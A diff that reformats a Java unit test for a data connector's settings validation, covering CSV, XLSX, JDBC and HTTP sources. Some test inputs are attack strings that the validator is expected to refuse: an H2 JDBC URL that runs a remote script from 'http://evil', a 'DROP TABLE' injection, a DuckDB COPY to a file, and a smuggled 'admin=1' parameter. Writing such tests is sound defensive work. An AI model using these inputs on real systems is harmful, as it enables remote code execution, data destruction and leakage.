@@ -34,7 +34,8 @@ class SourceSettingsTest {
 
     @Test
     void csvNeedsAPathAndTakesAKnownEncodingAndOneCharacterDelimiters() {
-        assertThat(SourceConnectors.get("csv").parse(values("path", "a.csv", "encoding", "Windows-1258", "delimiter", ";")))
+        assertThat(SourceConnectors.get("csv")
+                        .parse(values("path", "a.csv", "encoding", "Windows-1258", "delimiter", ";")))
                 .isEqualTo(new CsvSettings("a.csv", "windows-1258", ";"));
         assertThat(new CsvSettings("a.csv", null, "\\t").delimiterChar()).isEqualTo('\t');
         assertThat(fields(refusal("csv", values()))).isEqualTo(java.util.List.of("path"));
@@ -53,54 +54,86 @@ class SourceSettingsTest {
         }
         assertThat(SourceConnectors.get("xlsx").parse(values("path", "a.xlsx", "sheet", "Trang 1")))
                 .isEqualTo(new XlsxSettings("a.xlsx", "Trang 1"));
-        assertThat(fields(refusal("xlsx", values("path", "a.xlsx", "sheet", "x".repeat(101))))).isEqualTo(java.util.List.of("sheet"));
+        assertThat(fields(refusal("xlsx", values("path", "a.xlsx", "sheet", "x".repeat(101)))))
+                .isEqualTo(java.util.List.of("sheet"));
     }
 
     // --- jdbc
 
     @Test
     void jdbcNeedsAnAllowedUrlAndEitherATableOrAQuery() {
-        JdbcSettings ok = (JdbcSettings) SourceConnectors.get("jdbc").parse(values("url", "jdbc:postgresql://db.example/benhvien",
-                "user", "doc", "table", "benh_nhan", "watermark", "cap_nhat"));
+        JdbcSettings ok = (JdbcSettings) SourceConnectors.get("jdbc")
+                .parse(values(
+                        "url",
+                        "jdbc:postgresql://db.example/benhvien",
+                        "user",
+                        "doc",
+                        "table",
+                        "benh_nhan",
+                        "watermark",
+                        "cap_nhat"));
         assertThat(ok.timeoutSeconds()).isEqualTo(60);
         assertThat(ok.describe()).isEqualTo("benh_nhan");
         assertThat(fields(refusal("jdbc", values("table", "t")))).isEqualTo(java.util.List.of("url"));
-        assertThat(fields(refusal("jdbc", values("url", "jdbc:postgresql://db.example/x")))).isEqualTo(java.util.List.of("table"));
-        assertThat(fields(refusal("jdbc", values("url", "jdbc:postgresql://db.example/x", "table", "t", "query", "SELECT 1"))))
+        assertThat(fields(refusal("jdbc", values("url", "jdbc:postgresql://db.example/x"))))
                 .isEqualTo(java.util.List.of("table"));
-        assertThat(fields(refusal("jdbc", values("url", "jdbc:postgresql://db.example/x", "table", "t; DROP TABLE t",
-                "watermark", "a b", "timeout_seconds", "soon")))).isEqualTo(java.util.List.of("timeout_seconds", "table", "watermark"));
-        assertThat(fields(refusal("jdbc", values("url", "jdbc:postgresql://db.example/x", "table", "t", "timeout_seconds", "0"))))
+        assertThat(fields(refusal(
+                        "jdbc", values("url", "jdbc:postgresql://db.example/x", "table", "t", "query", "SELECT 1"))))
+                .isEqualTo(java.util.List.of("table"));
+        assertThat(fields(refusal(
+                        "jdbc",
+                        values(
+                                "url",
+                                "jdbc:postgresql://db.example/x",
+                                "table",
+                                "t; DROP TABLE t",
+                                "watermark",
+                                "a b",
+                                "timeout_seconds",
+                                "soon"))))
+                .isEqualTo(java.util.List.of("timeout_seconds", "table", "watermark"));
+        assertThat(fields(refusal(
+                        "jdbc", values("url", "jdbc:postgresql://db.example/x", "table", "t", "timeout_seconds", "0"))))
                 .isEqualTo(java.util.List.of("timeout_seconds"));
     }
 
     @Test
     void jdbcRefusesEmbeddedDatabasesAndNonSelectQueriesAsSecurityProblems() {
-        SettingsException h2 = refusal("jdbc", values("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "query",
-                "SELECT 1"));
+        SettingsException h2 = refusal(
+                "jdbc", values("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "query", "SELECT 1"));
         assertThat(h2.refusal()).isPresent();
         assertThat(h2.refusal().get().field()).isEqualTo("url");
         assertThat(h2.getMessage()).contains("not allowed");
-        SettingsException copy = refusal("jdbc", values("url", "jdbc:duckdb:agency.duckdb", "query", "COPY t TO '/tmp/x.csv'"));
+        SettingsException copy =
+                refusal("jdbc", values("url", "jdbc:duckdb:agency.duckdb", "query", "COPY t TO '/tmp/x.csv'"));
         assertThat(copy.refusal()).map(SettingsException.Problem::field).contains("query");
-        assertThat(SourceConnectors.get("jdbc").parse(values("url", "jdbc:duckdb:agency.duckdb", "query", "SELECT * FROM people")))
+        assertThat(SourceConnectors.get("jdbc")
+                        .parse(values("url", "jdbc:duckdb:agency.duckdb", "query", "SELECT * FROM people")))
                 .isInstanceOf(JdbcSettings.class);
     }
 
     @Test
     void jdbcSecretsNeverShow() {
-        SettingsException inUrl = refusal("jdbc", values("url", "jdbc:postgresql://db.example/x?password=" + SECRET, "table", "t"));
-        assertThat(inUrl.problems()).extracting(SettingsException.Problem::reason).contains(SettingsException.Reason.REFUSED);
+        SettingsException inUrl =
+                refusal("jdbc", values("url", "jdbc:postgresql://db.example/x?password=" + SECRET, "table", "t"));
+        assertThat(inUrl.problems())
+                .extracting(SettingsException.Problem::reason)
+                .contains(SettingsException.Reason.REFUSED);
         assertThat(inUrl.getMessage()).doesNotContain(SECRET);
-        SettingsException semicolon = refusal("jdbc", values("url", "jdbc:sqlserver://db.example;password=" + SECRET, "table", "t"));
+        SettingsException semicolon =
+                refusal("jdbc", values("url", "jdbc:sqlserver://db.example;password=" + SECRET, "table", "t"));
         assertThat(semicolon.getMessage()).doesNotContain(SECRET);
-        assertThat(semicolon.problems()).extracting(SettingsException.Problem::reason)
+        assertThat(semicolon.problems())
+                .extracting(SettingsException.Problem::reason)
                 .contains(SettingsException.Reason.SECRET_IN_URL);
-        JdbcSettings stored = (JdbcSettings) SourceConnectors.get("jdbc").parse(values("url", "jdbc:postgresql://db.example/x",
-                "table", "t", "credential", SECRET));
+        JdbcSettings stored = (JdbcSettings) SourceConnectors.get("jdbc")
+                .parse(values("url", "jdbc:postgresql://db.example/x", "table", "t", "credential", SECRET));
         assertThat(stored.credential()).isEqualTo(SECRET);
         assertThat(stored.toString()).doesNotContain(SECRET).contains("credential=(stored)");
-        Setting credential = SourceConnectors.get("jdbc").settings().stream().filter(Setting::secret).findFirst().orElseThrow();
+        Setting credential = SourceConnectors.get("jdbc").settings().stream()
+                .filter(Setting::secret)
+                .findFirst()
+                .orElseThrow();
         assertThat(credential.name()).isEqualTo("credential");
         assertThat(credential.supply()).isEqualTo(Setting.Supply.SECRET);
     }
@@ -109,26 +142,38 @@ class SourceSettingsTest {
 
     @Test
     void httpNeedsAnHttpUrlWithoutCredentialsAndPlainParameters() {
-        HttpSettings ok = (HttpSettings) SourceConnectors.get("http").parse(values("url", "https://api.example/v1/people?region=01",
-                "page_parameter", "page", "items_field", "data", "max_pages", "50"));
+        HttpSettings ok = (HttpSettings) SourceConnectors.get("http")
+                .parse(values(
+                        "url",
+                        "https://api.example/v1/people?region=01",
+                        "page_parameter",
+                        "page",
+                        "items_field",
+                        "data",
+                        "max_pages",
+                        "50"));
         assertThat(ok.maxPages()).isEqualTo(50);
         assertThat(ok.timeoutSeconds()).isEqualTo(30);
         assertThat(ok.describe()).isEqualTo("https://api.example/v1/people?…");
         assertThat(fields(refusal("http", values()))).isEqualTo(java.util.List.of("url"));
-        assertThat(fields(refusal("http", values("url", "ftp://files.example/x")))).isEqualTo(java.util.List.of("url"));
-        assertThat(fields(refusal("http", values("url", "https://api.example/x", "page_parameter", "page&admin=1",
-                "max_pages", "-1")))).isEqualTo(java.util.List.of("max_pages", "page_parameter"));
+        assertThat(fields(refusal("http", values("url", "ftp://files.example/x"))))
+                .isEqualTo(java.util.List.of("url"));
+        assertThat(fields(refusal(
+                        "http",
+                        values("url", "https://api.example/x", "page_parameter", "page&admin=1", "max_pages", "-1"))))
+                .isEqualTo(java.util.List.of("max_pages", "page_parameter"));
     }
 
     @Test
     void httpSecretsNeverShow() {
         SettingsException userInfo = refusal("http", values("url", "https://user:" + SECRET + "@api.example/x"));
         assertThat(userInfo.getMessage()).doesNotContain(SECRET);
-        HttpSettings stored = (HttpSettings) SourceConnectors.get("http").parse(values("url", "https://api.example/x?key=" + SECRET,
-                "credential", SECRET));
+        HttpSettings stored = (HttpSettings) SourceConnectors.get("http")
+                .parse(values("url", "https://api.example/x?key=" + SECRET, "credential", SECRET));
         assertThat(stored.toString()).doesNotContain(SECRET);
         assertThat(stored.describe()).doesNotContain(SECRET);
-        SettingsException badNumber = refusal("http", values("url", "https://api.example/x", "timeout_seconds", SECRET));
+        SettingsException badNumber =
+                refusal("http", values("url", "https://api.example/x", "timeout_seconds", SECRET));
         assertThat(badNumber.getMessage()).doesNotContain(SECRET).contains("timeout_seconds");
     }
 }
